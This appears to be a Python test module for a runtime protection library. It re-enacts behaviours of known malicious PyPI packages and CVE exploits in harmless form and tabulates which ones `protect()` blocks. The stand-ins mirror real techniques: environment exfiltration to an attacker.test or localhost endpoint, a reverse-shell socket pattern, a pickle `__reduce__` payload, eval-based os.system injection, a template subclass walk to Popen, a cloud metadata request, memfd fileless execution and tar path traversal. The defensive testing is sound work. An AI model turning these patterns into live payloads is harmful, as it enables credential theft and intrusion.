"""What public exploits and malicious packages do, and which of it `protect` stops.

    python -m tests.guards.protection.behaviours     # the table of docs/protection.md

Each behaviour is written from its advisory, harmlessly: the attacker's host is this machine, the
program that it starts is none, and what it would write outside is below a folder of its own.
`default` and `hosts` say whether `protect()` and `protect(hosts=...)` stop it, written down before
it was run. A behaviour is stopped where the operation that does the damage raises OperationBlocked.
"""

from __future__ import annotations

import http.client
import io
import json
import os
import pickle
import socket
import subprocess
import sys
import tarfile
import tempfile
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any, NamedTuple

ROOT = Path(__file__).parents[3]
MODES = ("default", "hosts")
# Where the attacker listens: no list of hosts has it.
ATTACKER = "localhost"
OSV = "https://osv.dev/vulnerability/"


class Behaviour(NamedTuple):
    """One operation of an exploit or a package, and whether each way to protect stops it."""

    name: str
    advisory: str
    run: Callable[[Place], object]
    default: bool
    hosts: bool


class Place(NamedTuple):
    """The folder that stands for the rest of the file system, and the port of the attacker."""

    outside: Path
    port: int


class _Attacker(BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.send_response(204)
        self.end_headers()

    def do_GET(self) -> None:
        self.do_POST()

    def log_message(self, *_: Any) -> None:
        pass


def _ask(place: Place, path: str = "/", body: bytes | None = None) -> None:
    url = f"http://{ATTACKER}:{place.port}{path}"
    urllib.request.urlopen(urllib.request.Request(url, data=body), timeout=5).close()


def _send_environment(place: Place) -> None:
    _ask(place, "/collect", json.dumps(dict.fromkeys(os.environ, "")).encode())


def _send_over_socket(place: Place) -> None:
    with socket.create_connection((ATTACKER, place.port), timeout=5) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")


def _send_in_names(place: Place) -> None:
    # No label of a name is so long: the resolver asks nobody.
    with suppress(socket.gaierror):
        socket.getaddrinfo(b"a" * 64 + b".attacker.test", 443)


def _shell(place: Place) -> None:
    os.system("true")


def _child(place: Place) -> None:
    subprocess.run(["true"], check=True)


def _background_python(place: Place) -> None:
    subprocess.Popen([sys.executable, "-c", ""]).wait()


def _reverse_shell(place: Place) -> None:
    with socket.create_connection((ATTACKER, place.port), timeout=5) as client:
        subprocess.run(["true"], stdin=client.fileno(), check=True)


def _miner_in_tmp(place: Place) -> None:
    with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False, encoding="utf-8") as file:
        file.write("#!/bin/sh\ntrue\n")
    os.chmod(file.name, 0o700)
    subprocess.run([file.name], check=True)


def _memory_file(place: Place) -> None:
    descriptor = os.memfd_create("kernel")
    os.write(descriptor, b"#!/bin/none\n")
    os.execv(f"/proc/self/fd/{descriptor}", ["kernel"])


def _native_library(place: Place) -> None:
    import ctypes

    ctypes.CDLL(None)


def _persist(place: Place) -> None:
    (place.outside / "sysmon.py").write_text("", encoding="utf-8")


def _change_installed_code(place: Place) -> None:
    with (place.outside / "sitecustomize.py").open("a", encoding="utf-8") as file:
        file.write("\n")


def _extract(name: str) -> Callable[[Place], object]:
    def run(place: Place) -> None:
        made = io.BytesIO()
        with tarfile.open(fileobj=made, mode="w") as archive:
            archive.addfile(tarfile.TarInfo(name.format(place.outside)), io.BytesIO(b""))
        made.seek(0)
        with tempfile.TemporaryDirectory() as folder, tarfile.open(fileobj=made) as archive:
            for member in archive:
                # As `extractall` did before it had filters.
                target = Path(folder) / member.name
                target.write_bytes(b"")

    return run


class _Reduced:
    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self._made = function, arguments

    def __reduce__(self) -> Any:
        return self._made


def _pickled(function: Callable[..., Any], *arguments: Any) -> Callable[[Place], object]:
    return lambda place: pickle.loads(pickle.dumps(_Reduced(function, *arguments)))


def _evaluated(code: str) -> Callable[[Place], object]:
    return lambda place: eval(code)


def _template(place: Place) -> None:
    """From a text to `subprocess.Popen`, by names that a template may use."""
    kinds: list[type] = "".__class__.__mro__[1].__subclasses__()
    (popen,) = (kind for kind in kinds if kind.__name__ == "Popen")
    found: Any = popen
    found(["true"]).wait()


def _metadata(place: Place) -> None:
    http.client.HTTPConnection("169.254.169.254", timeout=2).request("GET", "/latest/meta-data/")


def _read_environment(place: Place) -> None:
    Path("/proc/self/environ").read_bytes()


def _read_code(place: Place) -> None:
    Path(__file__).read_text(encoding="utf-8")


def _compute(place: Place) -> None:
    sum(number * number for number in range(1000))


def _second_stage(place: Place) -> None:
    _ask(place, "/stage")
    exec("pass")


def _config_in_tmp(place: Place) -> None:
    with tempfile.NamedTemporaryFile(suffix=".json") as file:
        file.write(b"{}")


_LITELLM = "https://blog.mozilla.ai/hardening-your-llm-dependency-supply-chain"
_TORCHTRITON = "https://www.sonatype.com/blog/pytorch-namespace-dependency-confusion-attack"
_FABRICE = (
    "https://en.ittrends.news/Information+Technology/Software/2024/11/"
    "risks-of-malicious-packages-python-fabrice.html"
)
_AIOCPA = (
    "https://en.ittrends.news/Information+Technology/Software/2024/11/"
    "understanding-aiocpa-incident-securing-python-packages.html"
)
_ULTRALYTICS = "https://safeguard.sh/resources/blog/ultralytics-pypi-compromise-december-2024"
_ZICHATBOT = (
    "https://appsecuritystandards.org/blog/pypi-malware-detection-playbook-for-python-teams"
)
_DENONIA = (
    "https://www.cadosecurity.com/blog/"
    "cado-discovers-denonia-the-first-malware-specifically-targeting-lambda"
)
_PYLOOSE = (
    "https://trickyworld.in/computer-tricks/cyber-security/"
    "python-based-fileless-malware-pyloose-an-in-depth-study-on-cryptocurrency-mining"
)
_DISCORD = (
    "https://edunews24.it/amp/tecnologia/allarme-sicurezza-il-pacchetto-pypi-contraffatto-che-ha-"
    "colpito-gli-sviluppatori-di-bot-discord-con-un-rat-sofisticato"
)
_STUDY = "https://arxiv.org/html/2309.11021v1"
_TEMPLATES = (
    "https://dev.to/vincentventalon/"
    "i-let-users-write-html-templates-here-are-6-security-holes-i-had-to-patch-lfi"
)
_CAPTURE = "https://pdf4.dev/blog/cve-2026-44439-playwright-capture-ssrf-html-to-pdf"
_TARFILE = "https://www.gustaebel.de/lars/CVE-2007-4559.html"

PACKAGES = [
    Behaviour("litellm: a second Python", _LITELLM, _background_python, True, True),
    Behaviour("litellm: a service that persists", _LITELLM, _persist, True, True),
    Behaviour("litellm: credentials by HTTP", _LITELLM, _send_environment, False, True),
    Behaviour("torchtriton: a bundled program", _TORCHTRITON, _child, True, True),
    Behaviour("torchtriton: files in DNS names", _TORCHTRITON, _send_in_names, False, True),
    Behaviour("fabrice: AWS keys to a host", _FABRICE, _send_environment, False, True),
    Behaviour("aiocpa: tokens to a chat's API", _AIOCPA, _send_environment, False, True),
    Behaviour("ultralytics: a miner from /tmp", _ULTRALYTICS, _miner_in_tmp, True, True),
    Behaviour("termncolor: a native library", _ZICHATBOT, _native_library, True, True),
    Behaviour("ZiChatBot: commands from a chat's API", _ZICHATBOT, _ask, False, True),
    Behaviour("Denonia: a configuration in /tmp", _DENONIA, _config_in_tmp, False, False),
    Behaviour("Denonia: DNS over HTTPS", _DENONIA, _ask, False, True),
    Behaviour("Denonia: connection to a mining pool", _DENONIA, _send_over_socket, False, True),
    Behaviour("PyLoose: a program in memory", _PYLOOSE, _memory_file, True, True),
    Behaviour("discordpydebug: commands of a shell", _DISCORD, _shell, True, True),
    Behaviour("discordpydebug: polls a server", _DISCORD, _ask, False, True),
    Behaviour("study: a second stage by HTTP", _STUDY, _second_stage, False, True),
    Behaviour("study: a reverse shell", _STUDY, _reverse_shell, True, True),
    Behaviour("study: code of other packages changed", _STUDY, _change_installed_code, True, True),
    Behaviour("study: mining in the process itself", _STUDY, _compute, False, False),
]
EXPLOITS = [
    Behaviour(
        "PyYAML, CVE-2020-14343", f"{OSV}PYSEC-2021-142", _pickled(os.system, "true"), True, True
    ),
    Behaviour(
        "NumPy's pickles, CVE-2019-6446",
        f"{OSV}PYSEC-2019-108",
        _pickled(os.system, "true"),
        True,
        True,
    ),
    Behaviour(
        "a pickle that computes", f"{OSV}PYSEC-2019-108", _pickled(eval, "1 + 1"), False, False
    ),
    Behaviour(
        "joblib, CVE-2022-21797",
        f"{OSV}PYSEC-2022-288",
        _evaluated("__import__('os').system('true')"),
        True,
        True,
    ),
    Behaviour(
        "Pillow's ImageMath, CVE-2022-22817",
        f"{OSV}PYSEC-2022-10",
        _evaluated("exec(\"import os; os.popen('true').close()\")"),
        True,
        True,
    ),
    Behaviour(
        "LangChain, CVE-2023-29374",
        f"{OSV}PYSEC-2023-18",
        _evaluated("__import__('os').environ.copy() and None"),
        False,
        False,
    ),
    Behaviour("GitPython, CVE-2022-24439", f"{OSV}PYSEC-2022-42992", _child, True, True),
    Behaviour("Celery, CVE-2021-23727", f"{OSV}PYSEC-2021-858", _shell, True, True),
    Behaviour("Dask, CVE-2021-42343", f"{OSV}PYSEC-2021-387", _child, True, True),
    Behaviour("Jinja2 template to Popen", _TEMPLATES, _template, True, True),
    Behaviour("CairoSVG, CVE-2023-27586: SSRF", f"{OSV}PYSEC-2023-9", _ask, False, True),
    Behaviour("PlaywrightCapture, CVE-2026-44439: metadata", _CAPTURE, _metadata, True, True),
    Behaviour(
        "svglib, CVE-2020-10799: reads a file",
        f"{OSV}PYSEC-2020-111",
        _read_environment,
        False,
        False,
    ),
    Behaviour(
        "aiohttp, CVE-2024-23334: reads code", f"{OSV}PYSEC-2024-24", _read_code, False, False
    ),
    Behaviour("tarfile, CVE-2007-4559", _TARFILE, _extract("{}/file"), True, True),
    Behaviour("py7zr, CVE-2022-44900", f"{OSV}PYSEC-2022-42998", _extract("{}/file"), True, True),
    Behaviour("an archive that stays in /tmp", _TARFILE, _extract("../{.name}"), False, False),
]


def tried(mode: str) -> dict[str, bool]:
    """Whether each behaviour is stopped, in a process of its own that is protected so."""
    with tempfile.TemporaryDirectory() as folder:
        (Path(folder) / "tmp").mkdir()
        command = [sys.executable, "-m", "tests.guards.protection.behaviours", mode, folder]
        environment = {**os.environ, "TMPDIR": f"{folder}/tmp"}
        done = subprocess.run(
            command, cwd=ROOT, env=environment, capture_output=True, encoding="utf-8", check=False
        )
    if done.returncode:
        raise RuntimeError(done.stderr)
    found: dict[str, bool] = json.loads(done.stdout)
    return found


def rows(found: Mapping[str, Mapping[str, bool]]) -> Iterator[str]:
    """The table of rates, from what was tried in each mode."""
    yield "| Behaviours of | Number | Stopped by `protect()` | Stopped by `protect(hosts=...)` |"
    yield "|---|---|---|---|"
    for title, behaviours in (("malicious packages", PACKAGES), ("exploits", EXPLOITS)):
        stopped = [sum(found[mode][each.name] for each in behaviours) for mode in MODES]
        shown = " | ".join(f"{each} ({each / len(behaviours):.0%})" for each in stopped)
        yield f"| {title} | {len(behaviours)} | {shown} |"


def _protected(mode: str, folder: str) -> dict[str, bool]:
    from runtime_guards.protection import protect

    server = HTTPServer(("127.0.0.1", 0), _Attacker)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    place = Place(Path(folder), server.server_address[1])
    hosts = {"sqs.eu-central-1.amazonaws.com"} if mode == "hosts" else None
    writable = [tempfile.gettempdir()]
    protect(hosts=hosts, writable=writable, report=lambda told: None)
    return {each.name: _stopped(each, place) for each in (*PACKAGES, *EXPLOITS)}


def _stopped(behaviour: Behaviour, place: Place) -> bool:
    from runtime_guards.errors import OperationBlocked

    try:
        behaviour.run(place)
    except OperationBlocked:
        return True
    except urllib.error.URLError as error:
        # The library's own error around it.
        if isinstance(error.reason, OperationBlocked):
            return True
        raise
    return False


if __name__ == "__main__":
    if sys.argv[1:]:
        print(json.dumps(_protected(*sys.argv[1:])))
        sys.stdout.flush()
        os._exit(0)
    print("\n".join(rows({mode: tried(mode) for mode in MODES})))
